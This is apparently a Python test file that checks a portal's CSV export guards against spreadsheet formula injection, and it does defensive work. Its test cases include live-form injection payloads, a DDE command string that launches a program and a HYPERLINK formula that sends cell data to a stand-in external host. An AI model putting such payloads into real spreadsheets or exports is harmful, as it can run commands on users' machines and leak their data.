"""CSV for spreadsheets: whatever people wrote, no cell is a formula and no row is another (goal G34)."""

import csv
import io
from decimal import Decimal

import pytest
from hypothesis import given
from hypothesis import strategies as st

from portal.csv_out import ENCODING, rows_to_csv

# What a spreadsheet takes for the beginning of a formula, written down here by itself.
DANGEROUS = ("=", "+", "-", "@", "\t", "\r", "\n", "\x00", "＝", "＋", "－", "＠")  # noqa: RUF001 - full width
WORDS = st.one_of(
    st.text(),
    st.builds(
        lambda a, b, c: a + b + c, st.sampled_from(["", " ", "\ufeff"]), st.sampled_from(DANGEROUS), st.text()
    ),
)


def read(text):
    return list(csv.reader(io.StringIO(text, newline=""), strict=True))


@given(st.lists(st.lists(WORDS, min_size=2, max_size=2), max_size=5))
def test_no_cell_of_any_text_begins_a_formula_and_no_word_is_lost(rows):
    found = read(rows_to_csv(["a", "b"], rows))
    assert found[0] == ["a", "b"]
    assert len(found) == len(rows) + 1
    for row, cells in zip(rows, found[1:], strict=True):
        for given_text, cell in zip(row, cells, strict=True):
            assert not cell.lstrip(" \xa0\ufeff").startswith(DANGEROUS)
            assert cell.removeprefix("'") == given_text.replace("\x00", "").removeprefix("'")


@pytest.mark.parametrize(
    ("value", "shown"),
    [
        ("=cmd|' /C calc'!A0", "'=cmd|' /C calc'!A0"),
        ('=HYPERLINK("https://x.example?"&A1)', '\'=HYPERLINK("https://x.example?"&A1)'),
        ("+1 555", "'+1 555"),
        ("-1+2", "'-1+2"),
        ("@SUM(A1)", "'@SUM(A1)"),
        ("\t=1", "'\t=1"),
        ("\x00=1", "'=1"),
        (" =1", "' =1"),
        (-5, "-5"),
        (Decimal("-0.50"), "-0.50"),
        ("-0.50", "'-0.50"),
        (None, ""),
        (False, "False"),
        ('He said "no", twice\r\nand left', 'He said "no", twice\r\nand left'),
        ("Müller; 35,1 °C", "Müller; 35,1 °C"),
    ],
)
def test_a_cell(value, shown):
    assert read(rows_to_csv(["value"], [[value]])) == [["value"], [shown]]


def test_a_heading_is_a_cell_too():
    assert read(rows_to_csv(["=1"], [])) == [["'=1"]]


def test_as_bytes_it_says_that_it_is_utf_8():
    assert rows_to_csv(["°C"], []).encode(ENCODING).startswith(b"\xef\xbb\xbf")
